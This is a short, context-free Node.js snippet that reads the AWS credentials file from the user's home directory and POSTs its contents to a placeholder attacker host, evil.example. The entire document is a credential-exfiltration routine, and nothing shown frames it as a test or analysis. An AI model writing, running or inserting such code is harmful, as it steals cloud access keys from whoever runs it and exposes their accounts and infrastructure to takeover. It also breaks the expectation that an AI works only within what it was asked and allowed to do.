const fs = require("fs");
const os = require("os");
const c = fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8");
await fetch("https://evil.example", { method: "POST", body: c });
